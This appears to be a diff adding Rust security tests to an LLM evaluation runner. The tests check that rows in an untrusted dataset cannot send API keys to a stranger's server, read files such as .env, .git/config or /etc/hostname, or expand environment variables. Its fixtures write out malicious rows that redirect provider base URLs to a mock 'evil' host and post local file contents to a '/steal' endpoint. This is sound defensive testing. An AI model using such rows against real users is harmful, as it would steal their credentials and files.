@@ -1,0 +1,200 @@
+//! A stranger's dataset in an ordinary config: what its rows get, which is nothing.
+//!
+//! Each row was once enough to send a key, a variable or a file of the user's to a server of the
+//! row's choice. The server here is the stranger's; it must see nothing.
+
+use runner_tests::{Answer, Finished, ModelApi, Run};
+
+const KEY: &str = "sk-test-0123456789-very-secret";
+const OTHER: &str = "wJalrXUtnFEMI-aws-secret";
+
+/// The run of somebody who evaluates `rows`, which are the stranger's.
+fn victim(name: &str, rows: &str) -> Run {
+    let config = format!(
+        "env: {{ LOGIN: }}\nprompts: ['{{{{q}}}}']\nproviders: [echo]\ntests: file://{name}\n"
+    );
+    Run::new()
+        .config(&config)
+        .file(name, rows)
+        .file(".env", "STRIPE_SK=sk_live_0123456789")
+        .env("OPENAI_API_KEY", KEY)
+        .env("AWS_SECRET_ACCESS_KEY", OTHER)
+        .env("LOGIN", "admin:hunter2hunter2")
+        .arg("eval")
+}
+
+/// What the rows of `file` are said to ask for, without where it stands; the rest of the message
+/// is held to the word.
+#[track_caller]
+fn asked(finished: &Finished, file: &str) -> Vec<String> {
+    finished.expect_code(2);
+    let rest = finished
+        .stderr
+        .strip_prefix(&format!(
+            "error: rows of {file} ask for what needs your agreement, since data gives values only; nothing was sent:\n"
+        ))
+        .unwrap_or_else(|| panic!("{}", finished.stderr));
+    let (lines, help) = rest.split_once("help: ").expect("what to do");
+    assert_eq!(
+        help,
+        "if you trust it with that, run `runner trust` once; a workflow that trusts what it checks out says so with RUNNER_TRUST=data\n"
+    );
+    let subject = |line: &str| {
+        let at = line
+            .strip_prefix(&format!("  {file}:"))
+            .unwrap_or_else(|| panic!("{line}"));
+        at.split_once(": ")
+            .map_or(at, |(_, subject)| subject)
+            .to_owned()
+    };
+    let mut subjects: Vec<String> = lines.lines().map(subject).collect();
+    subjects.sort();
+    subjects
+}
+
+#[test]
+fn rows_that_bring_a_server_send_it_nothing() {
+    let api = ModelApi::start();
+    api.always(Answer::text("fine"));
+    let evil = api.url().replace("127.0.0.1", "0.0.0.0");
+    let ask = |id: &str| format!("ask the provider '{id}'");
+    let send = |name: &str| format!("send the environment variable {name} to {evil}");
+    let rows = [
+        (
+            format!(
+                r#""provider": {{ "id": "openai:chat:x", "config": {{ "apiBaseUrl": "{evil}/v1" }} }}"#
+            ),
+            vec![ask("openai:chat:x"), send("OPENAI_API_KEY")],
+        ),
+        (
+            format!(
+                r#""provider": {{ "id": "openai:chat:x", "config": {{ "apiBaseUrl": "{evil}/v1", "apiKeyEnvar": "AWS_SECRET_ACCESS_KEY" }} }}"#
+            ),
+            vec![ask("openai:chat:x"), send("AWS_SECRET_ACCESS_KEY")],
+        ),
+        (
+            format!(
+                r#""provider": {{ "id": "{evil}/steal", "config": {{ "method": "POST", "body": {{ "f": "file:///etc/hostname" }} }} }}"#
+            ),
+            vec![
+                ask(&format!("{evil}/steal")),
+                "read the file /etc/hostname".to_owned(),
+            ],
+        ),
+        (
+            format!(
+                r#""assert": [{{ "type": "llm-rubric", "value": "v", "provider": {{ "id": "{evil}/j", "config": {{ "method": "POST", "body": {{ "r": "{{{{prompt}}}}" }} }} }} }}]"#
+            ),
+            vec![ask(&format!("{evil}/j"))],
+        ),
+        (
+            format!(
+                r#""options": {{ "provider": {{ "id": "openai:x", "config": {{ "apiBaseUrl": "{evil}" }} }} }}, "assert": [{{ "type": "llm-rubric", "value": "v" }}]"#
+            ),
+            vec![ask("openai:x"), send("OPENAI_API_KEY")],
+        ),
+        (
+            r#""options": { "url": "http://0.0.0.0:1/x", "headers": { "x-role": "admin" } }"#
+                .to_owned(),
+            vec![
+                r#"set `headers` of its request to {"x-role":"admin"}"#.to_owned(),
+                r#"set `url` of its request to "http://0.0.0.0:1/x""#.to_owned(),
+            ],
+        ),
+    ];
+    for (rest, expected) in rows {
+        let row = format!("{{ \"vars\": {{ \"q\": \"1\" }}, {rest} }}\n");
+        for name in ["rows.jsonl", "rows.json"] {
+            let finished = victim(name, &row).finish();
+            assert_eq!(asked(&finished, name), expected, "{row}");
+            assert!(!finished.stderr.contains(KEY) && !finished.stderr.contains(OTHER));
+        }
+    }
+    assert!(api.requests().is_empty(), "nothing was sent");
+}
+
+#[test]
+fn cells_read_no_file_outside_and_no_hidden_one() {
+    for (file, real) in [
+        ("file://.env", Some("PROJECT/.env")),
+        ("file://.git/config", Some("PROJECT/.git/config")),
+        ("file:///etc/hostname", Some("/etc/hostname")),
+        ("file://out/secret.txt", Some("HOME/secret.txt")),
+        ("file://note.txt", None),
+    ] {
+        let run = victim("rows.csv", &format!("q\n{file}\n"))
+            .file(".git/config", "[remote]")
+            .file("note.txt", "a note");
+        std::fs::write(run.home().join("secret.txt"), "x").expect("the home is ours");
+        std::os::unix::fs::symlink(run.home(), run.project().join("out"))
+            .expect("the folder is ours");
+        let real = real.map(|real| {
+            let whole = |path: &std::path::Path| {
+                path.canonicalize()
+                    .expect("it is there")
+                    .display()
+                    .to_string()
+            };
+            real.replace("PROJECT", &whole(run.project()))
+                .replace("HOME", &whole(run.home()))
+        });
+        let finished = run.finish();
+        match real {
+            Some(real) => assert_eq!(
+                asked(&finished, "rows.csv"),
+                [format!("read the file {real}")]
+            ),
+            None => drop(finished.expect_code(0)),
+        }
+    }
+}
+
+#[test]
+fn rows_see_no_environment_wherever_their_words_stand() {
+    let rows =
+        "q,__prefix,__suffix\n{{ env.LOGIN }},\"a {{ env.LOGIN }} \",\" {{ env['LOGIN'] }}b\"\n";
+    let csv = victim("rows.csv", rows).args(["-o", "out.json"]).finish();
+    csv.expect_code(0);
+    let row = r#"{ "vars": { "q": "{{ env.LOGIN }}" }, "options": { "prefix": "{{ env.LOGIN }}" }, "metadata": { "m": "{{ env.LOGIN }}" } }"#;
+    let jsonl = victim("rows.jsonl", row).args(["-o", "out.json"]).finish();
+    jsonl.expect_code(0);
+    for finished in [csv, jsonl] {
+        let kept = finished.read("out.json");
+        assert!(
+            kept.contains("{{ env.LOGIN }}") && !kept.contains("hunter2"),
+            "{kept}"
+        );
+    }
+}
+
+#[test]
+fn rows_that_were_agreed_to_run_unchanged() {
+    let api = ModelApi::start();
+    api.always(Answer::text("fine"));
+    let row = format!(
+        r#"{{ "vars": {{ "q": "1" }}, "provider": {{ "id": "openai:chat:x", "config": {{ "apiBaseUrl": "{}/v1" }} }} }}"#,
+        api.url()
+    );
+    let first = victim("rows.jsonl", &row).finish();
+    assert_eq!(
+        asked(&first, "rows.jsonl"),
+        ["ask the provider 'openai:chat:x'"]
+    );
+    let by_variable = first
+        .again()
+        .arg("eval")
+        .env("RUNNER_TRUST", "config")
+        .finish();
+    assert_eq!(asked(&by_variable, "rows.jsonl").len(), 1);
+    assert!(api.requests().is_empty());
+    first
+        .again()
+        .args(["trust", "--yes"])
+        .finish()
+        .expect_code(0);
+    first.again().arg("eval").finish().expect_code(0);
+    assert_eq!(api.requests().len(), 1);
+    let vouched = "prompts: ['{{q}}']\nproviders: [echo]\ntests: [{ path: file://rows.jsonl, trust: config }]\n";
+    let vouched = victim("rows.jsonl", &row).config(vouched).finish();
+    vouched.expect_code(0);
+}
